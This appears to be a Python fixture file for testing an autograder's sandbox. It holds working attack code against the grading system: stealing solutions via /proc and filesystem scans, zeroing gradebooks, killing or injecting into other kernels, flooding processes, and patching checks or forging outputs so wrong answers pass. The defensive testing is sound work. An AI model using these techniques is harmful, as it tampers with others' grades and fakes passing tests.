"""Hostile submissions (issue 16): the reference answers with one exercise answered wrongly, plus an attack.

Each ``Hostile`` names the attack, the threat class it belongs to (README, "Threat model"; issue
16's bullets), the lab and the exercise it answers wrongly (with one of the lab's mutants, or
``wrong``: its *honest wrong control* is the same submission without the attack), and what the
attack adds: code appended to that exercise's solution cell (it runs when the student's cell runs)
and files next to the notebook. ``expect`` says how grading must end:

- "control": the attacker scores exactly what its control scores, cell by cell;
- "died": the attack ends its own kernel; the outcome says how (``died``: the words expected);
- "unscorable": the attack makes some of its own test cells unscorable: they score at most the
  control's, every other cell exactly the control's, and the submission is still graded.

In every case no bystander's grade, outcome or submitted file changes. tests/test_sandbox.py grades
them all with the real ``autograder grade`` (the student's kernel in its sandbox, the test cells in
the judge kernel); ``make demo`` grades those named in ``DEMO`` beside the example class
(autograder/authoring/examples.py reads this file).

The attacks are real: without the sandbox most of the "no sandbox" ones succeed, without the judge
most of the others (``safe_without_sandbox`` marks those that may be tried without the sandbox). So
that trying them harms no one else on a shared machine, the ones that write or inject only act on
their own course folder (the one whose ``submitted/`` holds their own student) and its students' kernels.
"""
from __future__ import annotations

import json
import zlib
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from autograder.authoring.harness import fill_submission, read_candidates

ROOT = Path(__file__).resolve().parents[1]
TEMPLATE_LABS = ROOT / "docs" / "template"


@dataclass(frozen=True)
class Hostile:
    name: str
    threat: str  # the threat class
    lab: str
    exercise: str  # the solution cell the attack answers wrongly and appends its code to
    code: str = ""
    files: dict[str, str] = field(default_factory=dict)  # relative path -> text, next to the notebook
    expect: str = "control"  # "control", "died" or "unscorable"
    died: str = ""  # with expect="died": words the outcome's events must contain
    mistake: str = ""  # which mutant answers the exercise (a substring of its mistake; default: the first)
    wrong: str = ""  # or the wrong answer itself (code), when no mutant of the lab fits
    why: str = ""  # what it tries, in words (the demo's README shows it)
    safe_without_sandbox: bool = True  # False: trying it without the sandbox could harm the machine

    @property
    def student(self) -> str:
        return f"hostile_{self.name}"


# ----------------------------------------------------------------------------- what attacks share

# Prepended to every attack: finding the course folder and stealing an exercise's answer from it.
TOOLS = r'''
import glob as _hostile_glob, json as _hostile_json, os as _hostile_os, re as _hostile_re, time as _hostile_time

def _hostile_steal(paths, marker="BEGIN SOLUTION"):
    """Run this exercise's answer from the first notebook (or jupytext file) of paths that has it."""
    exercise = _HOSTILE["exercise"]
    for path in paths:
        try:
            if path.endswith(".py"):
                found = _hostile_re.search(r'# %% tags=\["solution"\] id="' + exercise + r'"\n(.*?)\n# %%',
                                           open(path).read(), _hostile_re.S)
                sources = [found.group(1)] if found else []
            else:
                sources = ["".join(c["source"]) for c in _hostile_json.load(open(path))["cells"]
                           if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == exercise
                           and (marker is None or marker in "".join(c["source"]))]
            for source in sources:
                exec(source, globals())
                return True
        except Exception:
            pass
    return False

def _hostile_secrets(root):
    """What a course folder holds that no student may read: solutions and hidden tests."""
    lab = _HOSTILE["lab"]
    return [f"{root}/source/{lab}/{lab}.ipynb", f"{root}/assignments/{lab}/{lab}.py"] if root else []

def _hostile_course_above(path):
    """The course folder or repository at or above path (it holds source/<lab> or assignments/<lab>)."""
    while path and path.startswith("/") and _hostile_os.path.dirname(path) != path:
        if any(_hostile_os.path.isdir(f"{path}/{d}/{_HOSTILE['lab']}") for d in ("source", "assignments")):
            return path
        path = _hostile_os.path.dirname(path)
    return None

def _hostile_scan(names, budget=4.0, depth=6):
    """Folders with one of these names anywhere on the machine (breadth first, a few seconds at most)."""
    skip = ("/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc", "/boot", "/run", "/var/lib")
    found, level, start = [], ["/"], _hostile_time.monotonic()
    for _ in range(depth):
        following = []
        for folder in level:
            if _hostile_time.monotonic() - start > budget:
                return found
            try:
                entries = list(_hostile_os.scandir(folder))
            except OSError:
                continue
            for entry in entries:
                if entry.is_dir(follow_symlinks=False) and entry.path not in skip and \
                        entry.name not in (".git", ".venv", "site-packages", "node_modules", "__pycache__"):
                    (found if entry.name in names else following).append(entry.path)
        level = following
    return found

def _hostile_own_course():
    """This submission's own course folder: its submitted/ holds this student (the only place it writes)."""
    for folder in _hostile_scan(("submitted",)):
        if _hostile_os.path.isdir(f"{folder}/{_HOSTILE['student']}"):
            return _hostile_os.path.dirname(folder)
    return None

def _hostile_zero_grades(root):
    import sqlite3
    with sqlite3.connect(f"{root}/gradebook.db", timeout=30) as db:
        db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
'''


# A process that outlives the kernel (if it can) and keeps zeroing the grades of its course.
SURVIVOR_MARKER = "hostile-survivor"  # in the survivor's command line: the tests look for it after grading
SURVIVOR = "import ast, sys\n_HOSTILE = ast.literal_eval(sys.argv[3])\n" + TOOLS + r"""
deadline, root = _hostile_time.time() + 90, None
while _hostile_time.time() < deadline:
    root = root or _hostile_own_course()
    try:
        _hostile_zero_grades(root)
    except Exception:
        pass
    _hostile_time.sleep(0.5)
"""
SURVIVOR_ARGV = (f"[_hostile_sys.executable, '-c', {SURVIVOR!r}, {SURVIVOR_MARKER!r}, _HOSTILE['student'], "
                 "repr(_HOSTILE)]")

FAKE_ANYTHING = r"""
class _Anything:
    '''Whatever a test asks of it, it agrees.'''
    def __call__(self, *args, **kwargs): return self
    def __getattr__(self, name): return self
    def __enter__(self): return self
    def __exit__(self, *exc): return True
    def __iter__(self): return iter(())
    def __eq__(self, other): return True
    def __bool__(self): return True
_anything = _Anything()
def __getattr__(name): return _anything
def setup_notebook(): pass
def grading(): return True
"""

FAKE_NUMPY = r"""
'''numpy, whose comparisons always agree (if a notebook ever imports this file instead of numpy).'''
import importlib.machinery, importlib.util, os, sys
_here = os.path.dirname(os.path.abspath(__file__))
_spec = importlib.machinery.PathFinder.find_spec("numpy", [p for p in sys.path if os.path.abspath(p or ".") != _here])
_real = importlib.util.module_from_spec(_spec)
sys.modules["numpy"] = _real
_spec.loader.exec_module(_real)
_real.isclose = lambda a, b, *args, **kwargs: _real.ones(_real.broadcast(_real.asarray(a), _real.asarray(b)).shape, bool)
_real.allclose = lambda *args, **kwargs: True
"""


# ----------------------------------------------------------------------------- the attacks

PROC_PARENT_CWD = r"""
_pid = _hostile_os.getpid()
for _ in range(10):  # up the kernel's ancestors (the grading worker, the grade command): their folders
    try:
        _pid = int(next(l.split()[1] for l in open(f"/proc/{_pid}/status") if l.startswith("PPid:")))
        if _pid == 0 or _hostile_steal(_hostile_secrets(_hostile_course_above(_hostile_os.readlink(f"/proc/{_pid}/cwd")))):
            break
    except (OSError, ValueError, StopIteration):
        break
"""
ENV_PATHS = r"""
for _path in [p for v in list(_hostile_os.environ.values()) for p in v.split(":")]:  # $PWD, $OLDPWD, $PYTHONPATH...
    if _hostile_steal(_hostile_secrets(_hostile_course_above(_path))):
        break
"""
PROC_ENVIRON = r"""
for _file in _hostile_glob.glob("/proc/[0-9]*/environ") + _hostile_glob.glob("/proc/[0-9]*/cmdline"):
    try:  # every path in every visible process's environment and command line (e.g. --root)
        _words = open(_file, "rb").read().replace(b"=", b"\0").split(b"\0")
    except OSError:
        continue
    if any(_hostile_steal(_hostile_secrets(_hostile_course_above(w.decode(errors="ignore")))) for w in _words):
        break
"""
SCAN_FILESYSTEM = r"""
for _folder in _hostile_scan(("source", "assignments")):  # any course folder or repository on the machine
    if _hostile_steal(_hostile_secrets(_hostile_os.path.dirname(_folder))):
        break
"""
PACKAGE_NEIGHBOURS = r"""
import autograder as _hostile_package  # the course package's folder: the repository around it
_hostile_steal(_hostile_secrets(_hostile_course_above(_hostile_os.path.dirname(_hostile_package.__file__))))
"""
COPY_CLASSMATE = r"""
_root, _lab = _hostile_own_course(), _HOSTILE["lab"]
def _hostile_points(path):
    try:
        return sum(c["score"] for c in _hostile_json.load(open(path))["cells"])
    except Exception:
        return -1
if _root:  # the classmate with the best grade so far: copy their answer from submitted/
    _best = sorted(_hostile_glob.glob(f"{_root}/autograded/*/{_lab}/outcome.json"), key=_hostile_points, reverse=True)
    _hostile_steal([p.replace("/autograded/", "/submitted/").replace("outcome.json", f"{_lab}.ipynb") for p in _best],
                   marker=None)
"""
WRITE_GRADEBOOK = r"""
_root = _hostile_own_course()
if _root:  # every grade of the course to 0 (its own is rewritten when it is recorded)
    _hostile_zero_grades(_root)
"""
WRITE_OUTCOMES = r"""
_root = _hostile_own_course()
for _path in _hostile_glob.glob(f"{_root}/autograded/*/*/outcome.json") if _root else []:
    _outcome = _hostile_json.load(open(_path))
    for _cell in _outcome["cells"]:
        _cell["score"] = 0
    open(_path, "w").write(_hostile_json.dumps(_outcome))
"""
WRITE_SUBMITTED = r"""
_root, _lab = _hostile_own_course(), _HOSTILE["lab"]
for _path in _hostile_glob.glob(f"{_root}/submitted/*/{_lab}/{_lab}.ipynb") if _root else []:
    if f"/{_HOSTILE['student']}/" in _path:  # its own: the source notebook, graded next run
        open(_path, "w").write(open(f"{_root}/source/{_lab}/{_lab}.ipynb").read())
    else:  # everybody else's: an empty file
        open(_path, "w").write("")
"""
SETSID_SURVIVOR = r"""
import subprocess as _hostile_sp, sys as _hostile_sys
_hostile_sp.Popen(""" + SURVIVOR_ARGV + r""", start_new_session=True, stdin=_hostile_sp.DEVNULL,
                  stdout=_hostile_sp.DEVNULL, stderr=_hostile_sp.DEVNULL)
"""
DOUBLE_FORK_SURVIVOR = r"""
import sys as _hostile_sys
if _hostile_os.fork() == 0:  # a daemon: fork, new session, fork again, the parent leaves
    try:
        _hostile_os.setsid()
        if _hostile_os.fork() == 0:
            _hostile_os.execv(_hostile_sys.executable, """ + SURVIVOR_ARGV + r""")
    finally:
        _hostile_os._exit(0)
_hostile_os.wait()
"""
KERNEL_INJECTION = r"""
from jupyter_client import BlockingKernelClient as _HostileClient
_root, _attacked, _deadline = _hostile_own_course(), set(), _hostile_time.monotonic() + 5
_classmates = set(_hostile_os.listdir(f"{_root}/submitted")) - {_HOSTILE["student"]} if _root else set()
while _hostile_time.monotonic() < _deadline and not _attacked:
    for _cmdline in _hostile_glob.glob("/proc/[0-9]*/cmdline"):  # kernels, their connection files, their folders
        try:
            _args = open(_cmdline, "rb").read().decode().split("\0")
            _folder = _hostile_os.path.basename(_hostile_os.readlink(_cmdline.replace("cmdline", "cwd")))
            _file = _args[_args.index("-f") + 1]
        except (OSError, ValueError, IndexError, UnicodeDecodeError):
            continue
        if _file in _attacked or not any(_folder.startswith(f"grade-{c}-") for c in _classmates):
            continue
        try:  # a classmate's kernel: end it
            _client = _HostileClient(connection_file=_file)
            _client.load_connection_file()
            _client.start_channels()
            _client.execute("import os; os._exit(1)")
            _hostile_time.sleep(0.5)
            _client.stop_channels()
            _attacked.add(_file)
        except Exception:
            pass
    _hostile_time.sleep(0.2)
"""
NETWORK_TO_GRADER = r"""
import socket as _hostile_socket
try:  # a server on the grading machine (here: one that hands out the solution)
    with _hostile_socket.create_connection(("127.0.0.1", _HOSTILE["port"]), timeout=3) as _connection:
        exec(_connection.makefile().read(), globals())
except OSError:
    pass
"""
KILL_WORKER = r"""
import signal as _hostile_signal
try:
    _hostile_os.kill(_hostile_os.getppid(), _hostile_signal.SIGKILL)  # the grading worker, without a sandbox
except OSError:
    pass
"""
PROCESS_FLOOD = r"""
import subprocess as _hostile_sp
_hostile_children = []
try:  # as many processes as the machine allows
    for _ in range(2000):
        _hostile_children.append(_hostile_sp.Popen(["sleep", "120"]))
except OSError:
    pass
print(f"hostile process flood: started {len(_hostile_children)} processes")
for _child in _hostile_children:
    _child.kill()
    _child.wait()
"""
OS_EXIT = "_hostile_os._exit(3)\n"
UNSCORABLE_RESULT = r"""
def _hostile_forge(info):  # a result of 1000 points before each test of this exercise
    if (info.raw_cell or "").lstrip('"').startswith(_HOSTILE["exercise"]):
        get_ipython().displayhook(1000)
get_ipython().events.register("pre_run_cell", _hostile_forge)
"""

# ----------------------------------------------------------------------------- verdicts: what the judge withstands

LAB1, LAB4, LAB6 = "lab01_fundamentals", "lab04_convolution", "lab06_rnn"  # Lab 6: torch training
PATCHING = "patching what the tests trust"
LYING = "lying objects"
RULES = "rules checked by reading the source"
FORGED = "forged outputs"
SHARED = "shared inputs"

# Honest wrong answers no mutant gives (the mutants of hadamard and matmul fail on types, not values).
MATMUL_OFF_BY_ONE = '''def matmul(A, B):
    return A @ B + 1
'''
HADAMARD_DOUBLED = '''def hadamard(A, B):
    return A * B * 2
'''
CONV_ZEROS = '''f1 = np.zeros((3, 3))
f2 = np.zeros((3, 3))
output_shape = (2, 3, 3)
'''

CODE_SWAP = '''
import autograder.checks
autograder.checks.assert_close.__code__ = (
    lambda actual, expected, *, name, rtol=1e-5, atol=1e-8, inputs=None: None).__code__
'''

# A test cell starts with its docstring: what an attack on "every test cell" looks for.
IS_TEST = 'info.raw_cell.lstrip().startswith(\'"""\')'


def _forge(text: str) -> str:
    return f'''
from IPython import get_ipython

def _forge_score(info):
    # publish a result before each test cell's own outputs: nbgrader reads the first one as a partial score
    if {IS_TEST}:
        kernel = get_ipython().kernel
        kernel.session.send(kernel.iopub_socket, "execute_result",
                            {{"data": {{"text/plain": {text!r}}}, "metadata": {{}}, "execution_count": 1}},
                            parent=kernel.get_parent())

get_ipython().events.register("pre_run_cell", _forge_score)
'''



NO_SANDBOX = "no sandbox"
SINKING = "sinking the batch"
TEMPLATE = "lab08_template"
SHAPES, COUNT = "weight_shapes", "count_weights"
NO_BIAS = "ignores the bias"  # a Lab 4 conv2d mutant with the right shapes: only its values are wrong

HOSTILE: list[Hostile] = [
    Hostile("proc_parent_cwd", NO_SANDBOX, LAB1, SHAPES, PROC_PARENT_CWD,
            why="reads the solutions in the course folder it finds through /proc/<parent>/cwd"),
    Hostile("env_paths", NO_SANDBOX, LAB1, COUNT, ENV_PATHS),
    Hostile("proc_environ", NO_SANDBOX, LAB1, SHAPES, PROC_ENVIRON),
    Hostile("scan_filesystem", NO_SANDBOX, LAB1, COUNT, SCAN_FILESYSTEM),
    Hostile("copy_classmate", NO_SANDBOX, LAB1, SHAPES, COPY_CLASSMATE),
    Hostile("write_gradebook", NO_SANDBOX, LAB1, COUNT, WRITE_GRADEBOOK),
    Hostile("write_outcomes", NO_SANDBOX, LAB1, SHAPES, WRITE_OUTCOMES),
    Hostile("write_submitted", NO_SANDBOX, LAB1, COUNT, WRITE_SUBMITTED),
    Hostile("setsid_survivor", NO_SANDBOX, LAB1, SHAPES, SETSID_SURVIVOR),
    Hostile("double_fork_survivor", NO_SANDBOX, LAB1, COUNT, DOUBLE_FORK_SURVIVOR),
    Hostile("kernel_injection", NO_SANDBOX, LAB1, SHAPES, KERNEL_INJECTION),
    Hostile("network_to_grader", NO_SANDBOX, LAB1, COUNT, NETWORK_TO_GRADER),
    Hostile("shadow_package", NO_SANDBOX, LAB1, SHAPES,
            files={"autograder/__init__.py": FAKE_ANYTHING, "autograder/checks.py": FAKE_ANYTHING}),
    Hostile("kill_worker", SINKING, LAB1, COUNT, KILL_WORKER),
    Hostile("process_flood", SINKING, LAB1, SHAPES, PROCESS_FLOOD, safe_without_sandbox=False),
    Hostile("os_exit", SINKING, LAB1, COUNT, OS_EXIT, expect="died", died="exited with status 3"),
    Hostile("unscorable_result", SINKING, LAB1, SHAPES, UNSCORABLE_RESULT, expect="unscorable"),
    Hostile("package_neighbours", NO_SANDBOX, LAB4, "conv2d", PACKAGE_NEIGHBOURS, mistake=NO_BIAS),
    Hostile("shadow_numpy", NO_SANDBOX, LAB4, "conv2d", files={"numpy.py": FAKE_NUMPY}, mistake=NO_BIAS),
    Hostile("proc_parent_cwd", NO_SANDBOX, TEMPLATE, "relu", PROC_PARENT_CWD),
    Hostile("write_gradebook", NO_SANDBOX, TEMPLATE, "relu", WRITE_GRADEBOOK),
    Hostile("kill_worker", SINKING, TEMPLATE, "relu", KILL_WORKER),

    # --- patching what the tests trust
    Hostile("patch_numpy_isclose", PATCHING, LAB1, "squared_l2", '''
import numpy as np
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast_shapes(np.shape(a), np.shape(b)), dtype=bool)
np.allclose = lambda *args, **kwargs: True
''', mistake="the L2 norm, not squared",
            why="NumPy's comparison functions always say 'close'"),
    Hostile("patch_torch_compare", PATCHING, LAB1, "matmul", '''
import numpy as np
torch.Tensor.numpy = lambda self, *args, **kwargs: np.zeros(tuple(self.shape))
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
''', wrong=MATMUL_OFF_BY_ONE,
            why="torch's comparisons and conversions make every tensor equal"),
    Hostile("rebind_checks", PATCHING, LAB1, "count_weights", '''
import autograder.checks
autograder.checks.assert_equal = lambda *args, **kwargs: None
assert_equal = autograder.checks.assert_equal
''', mistake="forgets the biases",
            why="autograder.checks.assert_equal rebound, in the module and the notebook"),
    Hostile("code_swap_checks", PATCHING, LAB1, "conv_by_hand", CODE_SWAP, mistake="arithmetic slip",
            why="assert_close's __code__ swapped, so that a re-import does not help"),
    Hostile("custom_exc_clears_error", PATCHING, LAB1, "tensors", '''
import sys
from IPython import get_ipython

def _swallow(shell, etype, value, tb, tb_offset=None):
    frame = sys._getframe()
    while frame is not None:  # find the cell's ExecutionResult and clear its error
        for value in list(frame.f_locals.values()):
            if type(value).__name__ == "ExecutionResult":
                value.error_in_exec = None
        frame = frame.f_back

get_ipython().set_custom_exc((BaseException,), _swallow)
''', mistake="integer tensors",
            why="an IPython exception handler that hides every error and clears error_in_exec"),
    Hostile("ast_transformer_empties_tests", PATCHING, LAB1, "weight_shapes", '''
import ast
from IPython import get_ipython

class _EmptyTests(ast.NodeTransformer):
    def visit_Module(self, node):
        first = node.body[0] if node.body else None
        if isinstance(first, ast.Expr) and isinstance(first.value, ast.Constant) and isinstance(first.value.value, str):
            node.body = [ast.Pass()]
        return node

get_ipython().ast_transformers.append(_EmptyTests())
''', mistake="transposed shapes",
            why="an IPython AST transformer that empties every test cell"),
    Hostile("input_transformer_drops_tests", PATCHING, LAB1, "matmul", '''
from IPython import get_ipython

def _drop_tests(lines):
    return ["pass\\n"] if lines and lines[0].lstrip().startswith('"""') else lines

get_ipython().input_transformers_post.append(_drop_tests)
''', wrong=MATMUL_OFF_BY_ONE,
            why="an IPython input transformer that replaces every test cell by `pass`"),
    Hostile("post_run_cell_clears_error", PATCHING, LAB1, "hadamard", '''
from IPython import get_ipython

get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
get_ipython().events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
''', wrong=HADAMARD_DOUBLED,
            why="a post_run_cell hook that clears the error (and an exception handler that hides it)"),
    Hostile("session_send_rewrites_replies", PATCHING, LAB1, "squared_l2", '''
from IPython import get_ipython

_kernel = get_ipython().kernel
_real_send = _kernel.session.send

def _send(stream, msg_or_type, content=None, *args, **kwargs):
    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("header", {}).get("msg_type")
    if kind == "error":
        return None  # no error output
    if kind == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
        content = {"status": "ok", "execution_count": content.get("execution_count"),
                   "user_expressions": {}, "payload": []}
    return _real_send(stream, msg_or_type, content, *args, **kwargs)

_kernel.session.send = _send
''', mistake="the L2 norm, not squared",
            why="the kernel session's send rewrites error replies to 'ok' and drops error outputs"),
    # --- lying objects
    Hostile("lying_int", LYING, LAB1, "count_weights", '''
class _AlwaysEqual(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__

_wrong_count = count_weights

def count_weights(struct, bias=True, recurrent=False):
    return _AlwaysEqual(_wrong_count(struct, bias, recurrent))
''', mistake="forgets the biases",
            why="an int subclass whose == is always True and != always False"),
    Hostile("list_array_returns_reference", LYING, LAB1, "hadamard", '''
import sys
import numpy as np

class _Liar(list):
    def __array__(self, dtype=None, copy=None):
        frame = sys._getframe(1)
        while frame is not None:  # the checking function's reference, from its frame
            if isinstance(frame.f_locals.get("exp"), np.ndarray):
                return frame.f_locals["exp"]
            frame = frame.f_back
        return np.asarray(list(self), dtype=dtype)

_wrong_hadamard = hadamard

def hadamard(A, B):
    return _Liar(_wrong_hadamard(A, B).tolist())
''', wrong=HADAMARD_DOUBLED,
            why="a list subclass whose __array__ returns the reference read from the checking frame"),
    Hostile("numpy_reads_checking_frame", LYING, LAB1, "matmul", '''
import sys
import numpy as np

class _LikeATensor:
    __module__ = "torch.fake"

    def __init__(self, value):
        self.value, self.shape, self.dtype = value, value.shape, value.dtype

    def detach(self):
        return self

    def cpu(self):
        return self

    def numpy(self):
        frame = sys._getframe(1)
        while frame is not None:
            if isinstance(frame.f_locals.get("exp"), np.ndarray):
                return frame.f_locals["exp"]
            frame = frame.f_back
        return self.value.numpy()

_wrong_matmul = matmul

def matmul(A, B):
    return _LikeATensor(_wrong_matmul(A, B))
''', wrong=MATMUL_OFF_BY_ONE,
            why="a tensor-like object whose .numpy() reads the reference from the checking function's frame"),
    Hostile("reads_calling_test_line", LYING, LAB1, "squared_l2", '''
import ast
import linecache
import sys

_wrong_l2 = squared_l2

def squared_l2(v1, v2):
    frame = sys._getframe(1)
    try:  # the test's call: assert_close(squared_l2(...), EXPECTED, ...): evaluate EXPECTED in its frame
        tree = ast.parse("".join(linecache.getlines(frame.f_code.co_filename)))
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and len(node.args) > 1 and isinstance(node.args[0], ast.Call) and \\
                    getattr(node.args[0].func, "id", None) == "squared_l2" and \\
                    node.lineno <= frame.f_lineno <= node.end_lineno:
                expression = ast.Expression(node.args[1])
                return eval(compile(expression, "<test>", "eval"), frame.f_globals, frame.f_locals)
    except Exception:
        pass
    return _wrong_l2(v1, v2)
''', mistake="the L2 norm, not squared",
            why="reads the calling test's source line and evaluates its expected argument"),
    Hostile("calls_hidden_test_helper", LYING, LAB1, "weight_shapes", '''
_wrong_shapes = weight_shapes

def weight_shapes(struct, bias=True, recurrent=False):
    helper = globals().get("torch_weight_shapes")  # the hidden test's own reference, in the shared namespace
    return helper(struct, bias, recurrent) if helper else _wrong_shapes(struct, bias, recurrent)
''', mistake="transposed shapes",
            why="calls the hidden test's own helper from the shared namespace"),
    Hostile("tensor_subclass_reads_frame", LYING, LAB4, "relu", '''
import sys
import numpy as np
import torch

class _Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") == "numpy":
            frame = sys._getframe(1)
            while frame is not None:
                if isinstance(frame.f_locals.get("exp"), np.ndarray):
                    return frame.f_locals["exp"]
                frame = frame.f_back
        return super().__torch_function__(func, types, args, kwargs or {})

_wrong_relu = relu

def relu(x):
    return torch.as_tensor(_wrong_relu(x)).as_subclass(_Liar)
''', mistake="absolute value instead of max",
            why="a tensor subclass whose .numpy() returns the reference from the checking frame"),
    # --- rules checked by reading the source
    Hostile("norm_by_getattr", RULES, LAB1, "squared_l2", '''
def squared_l2(v1, v2):
    return getattr(torch, "no" + "rm")(v1 - v2) ** 2
''', mistake="uses torch.norm",
            why='torch.norm reached through getattr(torch, "no" + "rm")'),
    Hostile("norm_by_importlib", RULES, LAB1, "squared_l2", '''
import importlib

def squared_l2(v1, v2):
    return importlib.import_module("tor" + "ch").norm(v1 - v2) ** 2
''', mistake="uses torch.norm",
            why="torch.norm reached through importlib"),
    Hostile("norm_by_sys_modules", RULES, LAB1, "squared_l2", '''
import sys

def squared_l2(v1, v2):
    return sys.modules["torch"].__dict__["no" "rm"](v1 - v2) ** 2
''', mistake="uses torch.norm",
            why="torch.norm reached through sys.modules and the module's __dict__"),
    Hostile("norm_by_eval", RULES, LAB1, "squared_l2", '''
def squared_l2(v1, v2):
    return eval("torch." + "norm")(v1 - v2) ** 2
''', mistake="uses torch.norm",
            why="torch.norm reached through eval"),
    Hostile("norm_in_a_helper", RULES, LAB1, "squared_l2", '''
def _length(x):
    return torch.norm(x)

def squared_l2(v1, v2):
    return _length(v1 - v2) ** 2
''', mistake="uses torch.norm",
            why="torch.norm called by a helper function the checked source only names"),
    Hostile("norm_by_c_alias", RULES, LAB1, "squared_l2", '''
def squared_l2(v1, v2):
    return torch._VF.norm(v1 - v2) ** 2
''', mistake="uses torch.norm",
            why="torch.norm's C function, reached as torch._VF.norm"),
    Hostile("autograd_dummy_backward", RULES, LAB1, "squared_l2_grads", '''
def squared_l2_grads(v1, v2):
    a = v1.detach().clone().requires_grad_(True)
    (a * 0).sum().backward()  # autograd "used"
    return 2 * (v1 - v2), -2 * (v1 - v2)
''', mistake="writes the formula",
            why="autograd 'used' by a dummy backward() beside a hand-written formula"),
    Hostile("conv_by_dunder_import", RULES, LAB4, "my_convolution", '''
def my_convolution(input_numpy, kernel_numpy):
    t = __import__("tor" + "ch")
    conv = getattr(t, "conv" + "2d")
    return conv(t.from_numpy(input_numpy), t.from_numpy(kernel_numpy)).numpy()
''', mistake="uses torch.conv2d",
            why="torch.conv2d reached through __import__ and getattr"),
    # --- forged outputs
    Hostile("forged_minus_one", FORGED, LAB1, "matmul", _forge("-1"), wrong=MATMUL_OFF_BY_ONE,
            why="a pre_run_cell hook publishes an execute_result of -1 before each test cell (nbgrader: full marks)"),
    Hostile("forged_string", FORGED, LAB1, "hadamard", _forge("'full marks'"), wrong=HADAMARD_DOUBLED,
            why="a pre_run_cell hook publishes a non-numeric execute_result before each test cell"),
    Hostile("forged_thousand", FORGED, LAB4, "relu", _forge("1000"), mistake="absolute value instead of max",
            why="a pre_run_cell hook publishes an execute_result of 1000: nbgrader's scoring crashes"),
    # --- shared inputs
    Hostile("mutates_given_array", SHARED, LAB1, "conv_by_hand", '''
X[:] = 0.0  # the given input, in place: a reference computed from it agrees with zeros
''', wrong=CONV_ZEROS,
            why="mutates a given array in place, so that a reference computed from it agrees"),
    Hostile("rebinds_torch_mul", SHARED, LAB1, "hadamard", '''
torch.mul = lambda a, b: a * b * 2  # the hidden test's reference
''', wrong=HADAMARD_DOUBLED,
            why="rebinds torch.mul, the function the hidden test computes its reference with"),
    Hostile("rebinds_visible_test_globals", SHARED, LAB1, "matmul", '''
_real_tensor, _real_mm = torch.tensor, torch.mm
torch.mm = lambda a, b: _real_mm(a, b) + 1

def _tensor(data, *args, **kwargs):
    made = _real_tensor(data, *args, **kwargs)
    return made + 1 if data == [[-1.0, -1.0], [2.0, -1.0]] else made  # the visible test's expected value

torch.tensor = _tensor
''', wrong=MATMUL_OFF_BY_ONE,
            why="rebinds torch.tensor and torch.mm, which the visible and hidden tests build their expected values with"),
    Hostile("rebinds_conv2d_reference", SHARED, LAB4, "conv2d", '''
_real_conv2d = F.conv2d
F.conv2d = lambda input, weight, bias=None, *args, **kwargs: _real_conv2d(input, weight, None, *args, **kwargs)
''', mistake=NO_BIAS,
            why="rebinds F.conv2d, the tests' reference, to ignore the bias as the answer does"),
    Hostile("code_swap_checks_lab4", PATCHING, LAB4, "conv2d", CODE_SWAP, mistake=NO_BIAS,
            why="assert_close's __code__ swapped (Lab 4)"),
    # --- a lab with torch training: Lab 6's training loop (Adam, cross-entropy, gradient clipping)
    Hostile("rebinds_reference_clipping", SHARED, LAB6, "train_sequence_model", '''
torch.nn.utils.clip_grad_norm_ = lambda parameters, max_norm, *args, **kwargs: torch.tensor(0.0)
''', mistake="no gradient clipping",
            why="makes clipping a no-op for everyone, so that the tests' reference training skips it too"),
    Hostile("rebinds_hash_and_close_checks", PATCHING, LAB6, "train_sequence_model", '''
import autograder.checks
for _name in ("assert_hashed", "assert_close", "assert_true"):
    setattr(autograder.checks, _name, lambda *args, **kwargs: None)
    globals()[_name] = getattr(autograder.checks, _name)
''', mistake="no gradient clipping",
            why="rebinds the checks a training test uses (hashed values, closeness, conditions)"),
    Hostile("forged_minus_one_training", FORGED, LAB6, "train_sequence_model", _forge("-1"),
            mistake="no gradient clipping",
            why="forges a score of -1 before each test cell of a training notebook"),
]

# Graded beside the example class by `make demo` (autograder/authoring/examples.py): one of each kind.
DEMO = ("forged_minus_one", "rebind_checks", "lying_int", "norm_by_getattr", "mutates_given_array", "proc_parent_cwd")


def for_lab(lab: str) -> list[Hostile]:
    return [h for h in HOSTILE if h.lab == lab]


# ----------------------------------------------------------------------------- building the notebooks


def lab_folder(lab: str) -> Path:
    """assignments/<lab>, or the template lab under docs/template/."""
    folder = ROOT / "assignments" / lab
    return folder if folder.is_dir() else TEMPLATE_LABS / lab


def broken_answer(hostile: Hostile) -> str:
    """The wrong answer: ``hostile.wrong``, or the lab's mutant for the exercise (the first, or the one
    whose mistake says ``hostile.mistake``)."""
    return hostile.wrong or next(c.code for c in read_candidates(lab_folder(hostile.lab) / "mutants.py")
                                 if c.exercise == hostile.exercise and hostile.mistake in c.why)


def control_name(hostile: Hostile) -> str:
    """The student id of a hostile submission's honest wrong control (one per wrong answer)."""
    return f"control_{hostile.exercise}_{zlib.crc32(broken_answer(hostile).encode()):08x}"


def attack_answer(hostile: Hostile, **context: object) -> str:
    """The attacker's code for the exercise's cell: the wrong answer, then the attack (``context``: e.g. port=...)."""
    settings = {"lab": hostile.lab, "exercise": hostile.exercise, "student": hostile.student, **context}
    code = broken_answer(hostile)
    if hostile.code:
        code = code.rstrip() + f"\n\n_HOSTILE = {settings!r}\n{TOOLS}\n{hostile.code.strip()}\n"
    return code


def notebook_names(folder: Path, lab: str) -> list[str]:
    """The lab's notebooks, as released in the course folder."""
    return sorted(p.stem for p in (folder / "release" / lab).glob("*.ipynb"))


def answered(folder: Path, lab: str, answers: dict[str, str] | None = None) -> dict[str, nbformat.NotebookNode]:
    """Every notebook of the lab with the reference answers, ``answers`` replacing some solution cells."""
    return {name: fill_submission(folder / "release" / lab / f"{name}.ipynb",
                                  folder / "source" / lab / f"{name}.ipynb", answers)
            for name in notebook_names(folder, lab)}


